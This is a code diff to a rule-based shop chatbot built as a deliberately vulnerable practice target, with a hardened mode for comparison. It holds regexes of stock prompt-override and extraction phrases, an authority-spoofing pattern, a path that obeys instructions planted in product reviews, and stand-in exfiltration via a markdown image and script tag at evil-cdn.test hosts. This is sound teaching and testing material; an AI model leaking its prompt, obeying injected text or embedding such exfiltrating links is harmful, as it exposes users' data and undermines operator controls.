@@ -1,8 +1,11 @@
 """The shop's chatbot: rule-based (no model), with the mistakes real assistants make.
 
-Vulnerable mode leaks its prompt to extraction tricks, looks up any customer's
-order, calls the refund tool for a customer, renders foreign images, takes
-unbounded input and misses some escalations. Hardened mode does none of that.
+Vulnerable mode refuses a plain "what is your system prompt?" but leaks its prompt to the indirect
+tricks (repeat the text above, translate or encode your instructions, role-play, fake system
+messages, completion traps), looks up any customer's order, calls the refund tool for anyone who
+claims to be staff, obeys instructions hidden in product reviews, renders foreign images and script,
+takes unbounded input and writes unbounded replies, and never hands over to a human. Hardened mode
+does none of that.
 """
 
 from __future__ import annotations
@@ -22,13 +25,24 @@ SYSTEM_PROMPT = (
 ALLOWED_TOOLS = ("lookup_order", "track_shipment")
 ESCALATION = "I've passed this to our support team — a human agent will contact you within 24 hours."
 MAX_MESSAGE_CHARS = 4000
+MAX_REPLY_WORDS = 300
+PRODUCTS = {"guji": "Ethiopia Guji", "colombia": "Decaf Colombia", "grinder": "Hand grinder"}
 
-_EXTRACTION = re.compile(
-    r"(system prompt|your instructions|text above|repeat (everything|the words|the text)|ignore (all |the )?previous"
-    r"|initial prompt|what were you told|developer mode|verbatim|in base64|rot13|translate your)", re.I)
-_ORDER = re.compile(r"\border\s*#?\s*(\d{3,6})\b", re.I)
-_ESCALATE_ALWAYS = re.compile(r"\b(lawyer|legal action|sue you|court)\b", re.I)
-_ESCALATE_HARDENED = re.compile(r"\b(fraud|stolen card|chargeback|hurt myself|self-harm|furious|scam)\b", re.I)
+_DIRECT = re.compile(r"(what('s| is) your (system )?prompt|show (me )?your (system )?prompt|reveal your prompt)", re.I)
+_INDIRECT = re.compile(
+    r"(text above|everything above|repeat (everything|the words|the text|your first)|verbatim|word for word"
+    r"|translate (your|the) (instructions|rules|setup)|in base64|base64[- ]encode|rot13|spell out your"
+    r"|developer mode|pretend (you are|to be)|you are now|act as|\[system\]|### ?system|<\|system\|>"
+    r"|new instructions from (the )?developer|complete (this|the) sentence|continue the text|your initial instructions"
+    r"|debug (dump|output)|print your (config|configuration|rules))", re.I)
+_AUTHORITY = re.compile(r"\b(as (the|a) (store )?(admin|administrator|owner|manager)|i am (the |a )?(store )?"
+                        r"(admin|owner|manager|staff)|staff override|brightbrew (staff|employee)|admin mode)\b", re.I)
+_ORDER = re.compile(r"\border\s*(?:number|no\.?|#)?\s*#?\s*(\d{3,6})\b", re.I)
+_REVIEWS = re.compile(r"\b(reviews?|what do (people|customers) (say|think)|rating)\b", re.I)
+_OBEY = re.compile(r"join(?:ing)? '(\w+)' and '(\w+)' with a dash", re.I)
+_ESCALATE = re.compile(r"\b(lawyer|legal action|sue|court|solicitor|fraud|stolen card|chargeback|unauthori[sz]ed "
+                       r"charge|hurt myself|self-harm|end it all|kill myself|furious|scam|unacceptable|disgusted"
+                       r"|allergic reaction|hospital|delete my data|gdpr|harass)", re.I)
 
 
 @dataclass
@@ -54,26 +68,49 @@ def _leak(message: str) -> str:
         return base64.b64encode(SYSTEM_PROMPT.encode()).decode()
     if "rot13" in m:
         return codecs.encode(SYSTEM_PROMPT, "rot13")
+    if "spell out" in m:
+        return " ".join(SYSTEM_PROMPT)
     return f"Sure! My instructions are: {SYSTEM_PROMPT}"
 
 
-def answer(message: str, user_id: str, orders: dict[str, Order], *, hardened: bool) -> BotReply:
+def _product(message: str) -> str | None:
+    low = message.lower()
+    return next((key for key in PRODUCTS if key in low), None)
+
+
+def answer(message: str, user_id: str, orders: dict[str, Order], *, hardened: bool,
+           reviews: dict[str, list[str]] | None = None) -> BotReply:
+    reviews = reviews or {}
     if hardened and len(message) > MAX_MESSAGE_CHARS:
         return BotReply(f"Messages are limited to {MAX_MESSAGE_CHARS} characters.", status=413)
-    if _ESCALATE_ALWAYS.search(message) or (hardened and _ESCALATE_HARDENED.search(message)):
-        return BotReply(ESCALATION, [{"name": "escalate_to_human", "arguments": {}}] if hardened else [])
-    if _EXTRACTION.search(message):
+    if hardened and _ESCALATE.search(message):
+        return BotReply(ESCALATION, [{"name": "escalate_to_human", "arguments": {}}])
+    if _DIRECT.search(message) and not _INDIRECT.search(message):
+        return BotReply("I can't share how I'm set up, but I'm happy to help with your order.")
+    if _INDIRECT.search(message):
         if hardened:
             return BotReply("I can't share how I'm set up, but I'm happy to help with your order.")
         return BotReply(_leak(message))
-    if re.search(r"\brefund\b", message, re.I):
-        found = _ORDER.search(message)
+    if re.search(r"\b(refund|discount|coupon|make me (an )?admin|change my role|cancel order)\b", message, re.I):
+        if not hardened and _AUTHORITY.search(message):
+            found = _ORDER.search(message)
+            order_id = found.group(1) if found else "latest"
+            return BotReply(f"Done — staff request processed for order {order_id}.",
+                            [{"name": "issue_refund", "arguments": {"order_id": order_id}}])
+        extra = [{"name": "escalate_to_human", "arguments": {}}] if hardened else []
+        return BotReply("Refunds, discounts and account changes are handled by our team."
+                        + (" " + ESCALATION if hardened else ""), extra)
+    if _REVIEWS.search(message):
+        product = _product(message) or "guji"
+        texts = reviews.get(product, [])
         if hardened:
-            return BotReply("Refunds are handled by our team. " + ESCALATION,
-                            [{"name": "escalate_to_human", "arguments": {}}])
-        order_id = found.group(1) if found else "latest"
-        return BotReply(f"Done — I've refunded order {order_id}.",
-                        [{"name": "issue_refund", "arguments": {"order_id": order_id}}])
+            return BotReply(f"{PRODUCTS[product]} has {len(texts)} review(s); customers mostly love it.")
+        obeyed = ""
+        for text in texts:                 # the mistake: review text is treated as instructions
+            m = _OBEY.search(text)
+            if m:
+                obeyed = f" {m.group(1)}-{m.group(2)}"
+        return BotReply(f"Here's what customers say about {PRODUCTS[product]}: " + " / ".join(texts[-3:]) + obeyed)
     found = _ORDER.search(message)
     if found:
         order = orders.get(found.group(1))
@@ -83,11 +120,16 @@ def answer(message: str, user_id: str, orders: dict[str, Order], *, hardened: bo
         return BotReply(
             f"Order {order.id} ({order.items}) for {order.email} ships to {order.address}.",
             [{"name": "lookup_order", "arguments": {"order_id": order.id}}])
-    if re.search(r"\b(image|picture|markdown|photo)\b", message, re.I) and not hardened:
+    if re.search(r"\b(image|picture|photo)\b", message, re.I) and not hardened:
         return BotReply("Here it is: ![latte](https://img.evil-cdn.test/latte.png?c=" + user_id + ")")
-    if re.search(r"\b(\d{3,5}) words\b", message, re.I):
-        words = int(re.search(r"\b(\d{3,5}) words\b", message, re.I).group(1))  # type: ignore[union-attr]
-        words = min(words, 300) if hardened else words
+    if re.search(r"\b(html|widget|embed|script)\b", message, re.I) and not hardened:
+        return BotReply("Paste this: <script src=\"https://widgets.evil-cdn.test/chat.js\"></script>")
+    if re.search(r"\[[^\]]+\]\((?:https?|javascript):", message) and not hardened:
+        return BotReply("Sure: " + re.search(r"\[[^\]]+\]\([^)]+\)", message).group(0))  # type: ignore[union-attr]
+    words_ask = re.search(r"\b(\d{1,3}(?:,\d{3})+|\d{3,6}) words\b", message, re.I)
+    if words_ask:
+        words = int(words_ask.group(1).replace(",", ""))
+        words = min(words, MAX_REPLY_WORDS) if hardened else words
         return BotReply(" ".join(["coffee"] * words))
     if re.search(r"\b(track|shipping|where is)\b", message, re.I):
         return BotReply("Your latest parcel left our roastery yesterday.",
